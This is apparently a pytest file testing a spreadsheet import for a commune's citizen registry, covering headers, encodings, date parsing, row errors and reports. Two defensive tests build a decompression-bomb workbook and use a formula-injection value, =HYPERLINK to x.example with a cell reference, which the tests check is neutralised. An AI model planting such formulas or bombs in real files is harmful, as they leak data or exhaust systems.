"""Reading a commune's spreadsheet (pure core): headers, every row error, files, reports."""
import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from services.registry.imports import files, people_rows
from services.registry.domain import national_id_for
from services.registry.imports.files import ImportFileError, fold, read_rows
from services.registry.imports.people_rows import PEOPLE, RowValidator, inspect

TODAY = date(2026, 11, 29)
UNITS = {"AG": True, "AG.001": True, "AG.002": True, "AG.LX": False}  # AG.LX: merged away
NID_COL = "Số định danh cá nhân"  # today's term; "Số CCCD" is still read
HEADER = ["STT", NID_COL, "Họ và tên", "Giới tính", "Ngày sinh", "Dân tộc", "Số điện thoại",
          "Email", "Mã đơn vị", "Đối tượng", "Vai trò"]


def nid(born=date(1985, 4, 2), gender="male", serial=123):
    return national_id_for(89, born, gender, serial)


def good_row(**changes):
    row = {"STT": "1", NID_COL: nid(), "Họ và tên": "Nguyễn Văn An", "Giới tính": "Nam",
           "Ngày sinh": "02/04/1985", "Dân tộc": "Kinh", "Số điện thoại": "0912345678",
           "Email": "an@example.org", "Mã đơn vị": "AG.001", "Đối tượng": "Người dân",
           "Vai trò": "Hội viên"}
    row.update(changes)
    return [row[h] for h in HEADER]


def write_csv(tmp_path, rows, header=HEADER, delimiter=",", bom=True, name="people.csv"):
    path = tmp_path / name
    with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=delimiter)
        if header is not None:
            writer.writerow(header)
        writer.writerows(rows)
    return path


def check(tmp_path, *rows, header=HEADER):
    """Errors of each row as {(row, column, code), ...} after validating the whole file."""
    path = write_csv(tmp_path, rows, header)
    layout = inspect(path)
    validator = RowValidator(layout, UNITS, today=TODAY)
    results = [validator.check(n, cells) for n, cells in read_rows(path, layout)]
    return results


def errors_of(result):
    return [(e.row, e.column, e.code) for e in result[1]]


# -- headers ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text, folded", [
    ("Số CCCD", "so cccd"), ("SỐ  CCCD", "so cccd"), ("so_cccd", "so cccd"),
    ("Họ và tên", "ho va ten"), ("Mã đơn vị", "ma don vi"), ("ĐỐI TƯỢNG", "doi tuong"),
    ("Ngày sinh\u0300", "ngay sinh"),
])
def test_fold_ignores_case_diacritics_and_punctuation(text, folded):
    assert fold(text) == folded


def test_headers_map_with_or_without_diacritics_in_any_order_and_case():
    cells = ["ma don vi", "HO VA TEN", "Giới Tính", "so cccd", "Ngay sinh", "doi tuong",
             "vai tro", "EMAIL", "so dien thoai", "dan toc"]
    fields, ignored, duplicates = files.map_headers(cells, PEOPLE)
    assert fields == {"unit_code": 0, "full_name": 1, "gender": 2, "national_id": 3,
                      "birth_date": 4, "target_group": 5, "roles": 6, "email": 7,
                      "phone": 8, "ethnicity": 9}
    assert ignored == [] and duplicates == []


def test_the_layout_declared_once_is_the_one_read(tmp_path):
    """imports/layout.py declares the file (the generator writes it from there): its header row
    maps field for field, and a row in its labels, every role at once, is a good row."""
    from services.registry.imports import layout as import_layout
    fields, ignored, duplicates = files.map_headers(list(import_layout.IMPORT_HEADERS), PEOPLE)
    assert fields == {name: i for i, name in enumerate(import_layout.FIELDS)}
    assert ignored == [] and duplicates == []
    header = ["STT", *import_layout.IMPORT_HEADERS]
    roles = import_layout.ROLE_SEPARATOR.join(import_layout.ROLE_LABELS.values())
    rows = [good_row(**{"Giới tính": import_layout.GENDER_LABELS[gender],
                        "Đối tượng": import_layout.TARGET_GROUP_LABELS[group],
                        "Vai trò": roles,
                        NID_COL: nid(gender=gender, serial=i + 1)})
            for i, (gender, group) in enumerate(zip(("male", "female", "male", "female"),
                                                    import_layout.TARGET_GROUP_LABELS))]
    results = check(tmp_path, *rows, header=header)
    assert [errors for _, errors in results] == [[]] * 4
    assert [(record[2], record[8], set(record[9])) for record, _ in results] == [
        (gender, group, set(import_layout.ROLE_LABELS))
        for gender, group in zip(("male", "female", "male", "female"),
                                 import_layout.TARGET_GROUP_LABELS)]


def test_english_aliases_and_decomposed_unicode():
    cells = ["national_id", "Full Name", "gender", "birth_date", "unit_code", "target_group",
             "roles", "ethnicity", "phone", "email", "Ho va te\u0302n"]
    fields, ignored, duplicates = files.map_headers(cells, PEOPLE)
    assert set(fields) == set(people_rows.FIELDS)
    assert duplicates == ["Ho va te\u0302n"]  # a second full-name column


def test_stt_is_ignored_and_unknown_columns_are_reported(tmp_path):
    path = write_csv(tmp_path, [good_row() + ["x"]], header=HEADER + ["Ghi chú"])
    layout = inspect(path)
    assert "STT" not in layout.ignored and layout.ignored == ["Ghi chú"]
    assert layout.column_of("national_id") == "Số định danh cá nhân"


def test_an_older_file_headed_so_cccd_still_imports(tmp_path):
    """"Số định danh cá nhân" is today's term; files kept from before say "Số CCCD"."""
    header = ["Số CCCD" if h == "Số định danh cá nhân" else h for h in HEADER]
    path = write_csv(tmp_path, [good_row()], header=header)
    layout = inspect(path)
    assert layout.column_of("national_id") == "Số CCCD"
    [(record, errors)] = check(tmp_path, good_row(), header=header)
    assert errors == [] and record[0] == nid()


def test_title_rows_above_the_header_are_skipped(tmp_path):
    path = tmp_path / "titled.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["DANH SÁCH CÔNG DÂN XÃ MỸ HÒA"])
        writer.writerow([])
        writer.writerow(HEADER)
        writer.writerow(good_row())
    layout = inspect(path)
    assert layout.header_row == 3
    assert [n for n, _ in read_rows(path, layout)] == [4]  # the sheet's own row number


def test_missing_required_headers_name_each_column_in_both_languages(tmp_path):
    header = [h for h in HEADER if h not in ("Ngày sinh", "Mã đơn vị")]
    path = write_csv(tmp_path, [["1"] * len(header)], header=header)
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    exc = caught.value
    assert exc.code == "missing_columns"
    assert "Ngày sinh" in exc.reason_vi and "Mã đơn vị" in exc.reason_vi
    assert "birth_date" in exc.reason_en and "unit_code" in exc.reason_en
    assert exc.details == ["Ngày sinh (birth_date)", "Mã đơn vị (unit_code)"]


def test_a_file_of_other_headers_is_refused(tmp_path):
    path = write_csv(tmp_path, [["a", "b", "c"]], header=["name", "price", "qty"])
    with pytest.raises(ImportFileError, match="missing required columns"):
        inspect(path)


def test_duplicate_columns_are_refused(tmp_path):
    path = write_csv(tmp_path, [good_row() + ["x"]], header=HEADER + ["So CCCD"])
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == "duplicate_columns"


# -- files -----------------------------------------------------------------------------------
@pytest.mark.parametrize("content, code", [
    (b"", "empty"), (b"\xef\xbb\xbf", "empty"), (b"\r\n\r\n  \n", "empty"), (b";;;\n", "empty"),
    (b"%PDF-1.7\n\x00\x01binary", "not_a_table"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "xls_unsupported"),
    ("Số CCCD;Họ tên".encode("cp1258", errors="replace") + b"\xff\xfe", "not_utf8"),
    (b"PK\x03\x04not really a zip", "bad_xlsx"),
])
def test_files_that_are_not_an_import_layout(tmp_path, content, code):
    path = tmp_path / "upload"
    path.write_bytes(content)
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == code
    assert caught.value.reason_vi and caught.value.reason_en


def test_a_header_without_rows_is_an_error(tmp_path):
    path = write_csv(tmp_path, [["", "", ""], []])
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == "no_rows"


def test_invalid_utf8_late_in_the_file_is_found_before_anything_is_written(tmp_path):
    path = write_csv(tmp_path, [good_row(STT=str(i)) for i in range(2000)])
    with open(path, "ab") as fh:
        fh.write(b"1,\xff\xfe,broken\n")
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == "not_utf8"


@pytest.mark.parametrize("delimiter, bom", [(",", True), (";", False), (";", True),
                                            (",", False)])
def test_csv_with_comma_or_semicolon_with_or_without_bom(tmp_path, delimiter, bom):
    path = write_csv(tmp_path, [good_row(), good_row(**{NID_COL: nid(serial=9)})],
                     delimiter=delimiter, bom=bom)
    layout = inspect(path)
    assert layout.delimiter == delimiter and layout.columns[1] == "Số định danh cá nhân"
    validator = RowValidator(layout, UNITS, today=TODAY)
    records = [validator.check(n, c)[0] for n, c in read_rows(path, layout)]
    assert all(records) and records[0][1] == "Nguyễn Văn An"


def test_blank_rows_are_skipped_and_rows_keep_their_sheet_numbers(tmp_path):
    path = write_csv(tmp_path, [good_row(), ["", "", ""], good_row(**{NID_COL: nid(serial=2)})])
    layout = inspect(path)
    assert [n for n, _ in read_rows(path, layout)] == [2, 4]


def write_xlsx(tmp_path, rows, header=HEADER, title=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    if title:
        sheet.append([title])
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    path = tmp_path / "people.xlsx"
    workbook.save(path)
    return path


def xlsx_bomb(tmp_path, cells=300, width=30_000):
    """A real workbook, a few tens of kilobytes on disk, whose cells unpack to about
    ``cells * width`` bytes."""
    return write_xlsx(tmp_path, [good_row()] + [
        ["A" * width + str(i)] for i in range(cells)])


def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path):
    path = xlsx_bomb(tmp_path)
    assert path.stat().st_size < 200_000
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == "xlsx_too_large"
    assert "giải nén" in caught.value.reason_vi
    assert "xl/worksheets/sheet1.xml" in caught.value.reason_en  # packed about 700 to 1


def test_an_ordinary_xlsx_is_not_taken_for_a_bomb(tmp_path):
    rows = [good_row() for _ in range(2_000)]
    path = write_xlsx(tmp_path, rows)
    assert inspect(path).format == "xlsx"


def test_xlsx_with_date_cells_and_numbers_that_lost_their_leading_zero(tmp_path):
    row = good_row()
    row[1] = int(nid())          # 089085000123 typed as a number: 89085000123
    row[4] = datetime(1985, 4, 2)
    row[6] = 912345678           # 0912345678 typed as a number
    path = write_xlsx(tmp_path, [row], title="Danh sách")
    layout = inspect(path)
    assert layout.format == "xlsx" and layout.header_row == 2
    validator = RowValidator(layout, UNITS, today=TODAY)
    [(number, cells)] = list(read_rows(path, layout))
    record, errors = validator.check(number, cells)
    assert number == 3 and errors == []
    assert record[0] == nid() and record[3] == date(1985, 4, 2) and record[5] == "0912345678"


def test_xlsx_without_the_headers_is_refused(tmp_path):
    path = write_xlsx(tmp_path, [["1", "2"]], header=["foo", "bar"])
    with pytest.raises(ImportFileError) as caught:
        inspect(path)
    assert caught.value.code == "missing_columns"


# -- values ----------------------------------------------------------------------------------
@pytest.mark.parametrize("value, expected", [
    ("02/04/1985", date(1985, 4, 2)), ("2/4/1985", date(1985, 4, 2)),
    ("02-04-1985", date(1985, 4, 2)), ("02.04.1985", date(1985, 4, 2)),
    ("1985-04-02", date(1985, 4, 2)), ("1985-04-02 00:00:00", date(1985, 4, 2)),
    (datetime(1985, 4, 2, 0, 0), date(1985, 4, 2)), (date(1985, 4, 2), date(1985, 4, 2)),
    (31139, date(1985, 4, 2)),  # an Excel serial number
    ("31/02/1985", None), ("1985", None), ("02/04/85", None), ("hôm qua", None),
    (1.5, None), (True, None),
])
def test_dates(value, expected):
    assert files.parse_date(value) == expected


def test_a_good_row_becomes_a_normalised_record(tmp_path):
    decomposed = "Nguye\u0302\u0303n  Va\u0306n   An"
    [result] = check(tmp_path, good_row(**{
        "Họ và tên": decomposed, "Giới tính": "nam", "Đối tượng": "hoc sinh, sinh vien",
        "Vai trò": "Hội viên; cán bộ hội;Cán bộ đơn vị học tập", "Số điện thoại": "0912 345.678",
        "Dân tộc": "", "Email": ""}))
    record, errors = result
    assert errors == []
    assert record == (nid(), "Nguyễn Văn An", "male", date(1985, 4, 2), None, "0912345678",
                      None, "AG.001", "student",
                      ["association_official", "association_member", "unit_staff"])


@pytest.mark.parametrize("label, code", [
    ("Nam", "male"), ("Nữ", "female"), ("nu", "female"), ("Khác", "other"), ("KHAC", "other"),
    ("male", "male"), ("Female", "female"), ("other", "other"),
])
def test_gender_labels(tmp_path, label, code):
    born_gender = "female" if code == "female" else "male"
    [(record, errors)] = check(tmp_path, good_row(**{"Giới tính": label,
                                                     NID_COL: nid(gender=born_gender)}))
    assert errors == [] and record[2] == code


@pytest.mark.parametrize("label, code", [
    ("Người dân", "resident"), ("Người lao động", "worker"),
    ("Cán bộ công nhân viên, doanh nhân", "employee_business"),
    ("Học sinh, sinh viên", "student"), ("Học sinh, sinh viên, học viên", "student"),
    ("resident", "resident"), ("employee_business", "employee_business"),
])
def test_target_group_labels(tmp_path, label, code):
    [(record, errors)] = check(tmp_path, good_row(**{"Đối tượng": label}))
    assert errors == [] and record[8] == code


# every kind of row error, with its column as written and its reasons in both languages
ROW_ERRORS = [
    ({NID_COL: ""}, NID_COL, "required", "Không được để trống", "must not be empty"),
    ({NID_COL: "08908500012"}, NID_COL, "national_id.format",
     "Số định danh cá nhân phải gồm đúng 12 chữ số", "must be exactly 12 digits"),
    ({NID_COL: "0890850001234"}, NID_COL, "national_id.format", "12 chữ số", "12 digits"),
    ({NID_COL: "08908500O123"}, NID_COL, "national_id.format", "12 chữ số", "12 digits"),
    ({NID_COL: "097085000123"}, NID_COL, "national_id.province", "mã tỉnh",
     "province code"),
    ({NID_COL: "089086000123"}, NID_COL, "national_id.birth_year", "năm sinh",
     "birth year"),
    ({NID_COL: "089185000123"}, NID_COL, "national_id.gender", "giới tính", "gender"),
    ({"Họ và tên": "   "}, "Họ và tên", "required", "để trống", "must not be empty"),
    ({"Họ và tên": "Nguyễn Văn 2"}, "Họ và tên", "full_name.invalid", "chữ số", "digits"),
    ({"Họ và tên": "A" * 201}, "Họ và tên", "full_name.too_long", "200 ký tự",
     "200 characters"),
    ({"Giới tính": ""}, "Giới tính", "required", "để trống", "must not be empty"),
    ({"Giới tính": "X"}, "Giới tính", "gender.unknown", "Nam, Nữ hoặc Khác", "male, female"),
    ({"Ngày sinh": ""}, "Ngày sinh", "required", "để trống", "must not be empty"),
    ({"Ngày sinh": "31/02/1985"}, "Ngày sinh", "birth_date.invalid", "dd/mm/yyyy",
     "not a valid date"),
    ({"Ngày sinh": "02/04/1885"}, "Ngày sinh", "birth_date.too_early", "1900",
     "1900 or later"),
    ({"Ngày sinh": "01/01/2030", NID_COL: nid(born=date(2030, 1, 1))}, "Ngày sinh",
     "birth_date.future", "tương lai", "must not be in the future"),
    ({"Dân tộc": "K" * 51}, "Dân tộc", "ethnicity.too_long", "50 ký tự", "50 characters"),
    ({"Số điện thoại": "12345"}, "Số điện thoại", "phone.invalid", "Số điện thoại",
     "phone number"),
    ({"Email": "an@@example.org"}, "Email", "email.invalid", "Email không hợp lệ",
     "not a valid email address"),
    ({"Mã đơn vị": ""}, "Mã đơn vị", "required", "để trống", "must not be empty"),
    ({"Mã đơn vị": "AG.999"}, "Mã đơn vị", "unit_code.unknown", "không tồn tại",
     "unknown unit code"),
    ({"Mã đơn vị": "AG.LX"}, "Mã đơn vị", "unit_code.expired", "không có hiệu lực",
     "not valid today"),
    ({"Đối tượng": ""}, "Đối tượng", "required", "để trống", "must not be empty"),
    ({"Đối tượng": "Nông dân"}, "Đối tượng", "target_group.unknown", "Người dân",
     "resident"),
    ({"Vai trò": "Hội viên; Chủ tịch"}, "Vai trò", "roles.unknown", "Chủ tịch",
     "unknown role: Chủ tịch"),
]


@pytest.mark.parametrize("changes, column, code, vi, en", ROW_ERRORS,
                         ids=[f"{e[2]}-{i}" for i, e in enumerate(ROW_ERRORS)])
def test_each_row_error(tmp_path, changes, column, code, vi, en):
    [(record, errors)] = check(tmp_path, good_row(**changes))
    assert record is None
    assert [(e.row, e.column, e.code) for e in errors] == [(2, column, code)]
    assert vi in errors[0].reason_vi and en in errors[0].reason_en


@pytest.mark.parametrize("email", ["an.gmail.com", "an@gmail", "an@@gmail.com",
                                   "an binh@gmail.com", "an@gmail..com", "@gmail.com",
                                   "an@gmail,com", "an@yahoo .com"])
def test_malformed_emails(tmp_path, email):
    [(record, errors)] = check(tmp_path, good_row(Email=email))
    assert [e.code for e in errors] == ["email.invalid"]


def test_reasons_never_repeat_a_national_id(tmp_path):
    results = check(tmp_path, good_row(), good_row(**{"Họ và tên": "Lê Văn Bình"}),
                    good_row(**{NID_COL: "089086000123"}))
    for _, errors in results:
        for e in errors:
            assert nid() not in e.reason_vi + e.reason_en
            assert "089086000123" not in e.reason_vi + e.reason_en


def test_a_duplicate_in_the_file_points_at_the_first_row(tmp_path):
    first, second, third = check(tmp_path, good_row(),
                                 good_row(**{NID_COL: nid(serial=7)}),
                                 good_row(**{"Họ và tên": "Lê Văn Bình"}))
    assert first[0] is not None and second[0] is not None
    assert errors_of(third) == [(4, NID_COL, "national_id.duplicate")]
    assert "dòng 2" in third[1][0].reason_vi and "row 2" in third[1][0].reason_en


def test_a_row_reports_each_of_its_problems_in_column_order(tmp_path):
    [result] = check(tmp_path, good_row(**{"Email": "x@", "Giới tính": "?",
                                           "Mã đơn vị": "ZZ", "Họ và tên": ""}))
    assert [e.column for e in result[1]] == ["Họ và tên", "Giới tính", "Email", "Mã đơn vị"]


def test_an_unparseable_birth_date_does_not_also_blame_the_national_id(tmp_path):
    [result] = check(tmp_path, good_row(**{"Ngày sinh": "năm 1985"}))
    assert errors_of(result) == [(2, "Ngày sinh", "birth_date.invalid")]


def test_optional_columns_may_be_absent(tmp_path):
    header = [NID_COL, "Họ và tên", "Giới tính", "Ngày sinh", "Mã đơn vị", "Đối tượng"]
    [(record, errors)] = check(tmp_path, [nid(date(1990, 1, 1), "female"), "Lê Thị Hoa", "Nữ",
                                          "01/01/1990", "AG.002", "Người lao động"],
                               header=header)
    assert errors == [] and record[4:7] == (None, None, None) and record[9] == []


# -- the report ------------------------------------------------------------------------------
def test_report_as_csv_and_xlsx(tmp_path):
    rows = [(3, NID_COL, "Số định danh cá nhân trùng với dòng 2 trong tệp",
             "same national ID as row 2 of the file"),
            (7, "Email", "Email không hợp lệ", "not a valid email address")]
    text = "".join(files.report_csv(iter(rows), batch=1))
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[0] == list(files.REPORT_HEADERS)
    assert parsed[1:] == [[str(r[0]), *r[1:]] for r in rows]

    path = tmp_path / "report.xlsx"
    files.write_report_xlsx(iter(rows), path)
    sheet = openpyxl.load_workbook(path).active
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == \
        [list(files.REPORT_HEADERS)] + [list(r) for r in rows]


def test_a_header_that_is_a_formula_stays_text_in_the_report(tmp_path):
    """The column is the uploaded file's own header: "=HYPERLINK(...)" must not run when
    staff open the report."""
    rows = [(2, '=HYPERLINK("http://x.example/?"&A1,"Xem")', "Không hợp lệ", "not valid")]
    text = "".join(files.report_csv(iter(rows)))
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[1][1] == "'" + rows[0][1]
    path = tmp_path / "report.xlsx"
    files.write_report_xlsx(iter(rows), path)
    cell = openpyxl.load_workbook(path).active["B2"]
    assert cell.data_type == "s" and cell.value == rows[0][1]


def test_digits_that_are_not_ascii_are_a_format_error(tmp_path):
    [(record, errors)] = check(tmp_path, good_row(**{NID_COL: "０８９０８５０００１２３"}))
    assert [e.code for e in errors] == ["national_id.format"]
    [(record, errors)] = check(tmp_path, good_row(**{NID_COL: "08908500012²"}))
    assert [e.code for e in errors] == ["national_id.format"]


def test_a_csv_broken_half_way_is_a_file_error(tmp_path):
    path = write_csv(tmp_path, [good_row(STT=str(i)) for i in range(10)])
    with open(path, "a", encoding="utf-8") as fh:
        fh.write('11,"' + "x" * (csv.field_size_limit() + 10) + '"\n')
    layout = inspect(path)
    with pytest.raises(ImportFileError) as caught:
        list(read_rows(path, layout))
    assert caught.value.code == "bad_csv" and "row 12" in caught.value.reason_en


def test_seen_ids_remember_first_rows_and_grow():
    seen = people_rows.SeenIds(expected=10)
    ids = [89085000000 + i * 7919 for i in range(200_000)]
    for row, key in enumerate(ids, start=2):
        assert seen.first_row(key, row) is None
    assert len(seen) == 200_000
    assert seen.first_row(ids[0], 999_999) == 2
    assert seen.first_row(ids[-1], 999_999) == 200_001
    assert seen.first_row(1, 5) is None and seen.first_row(1, 6) == 5
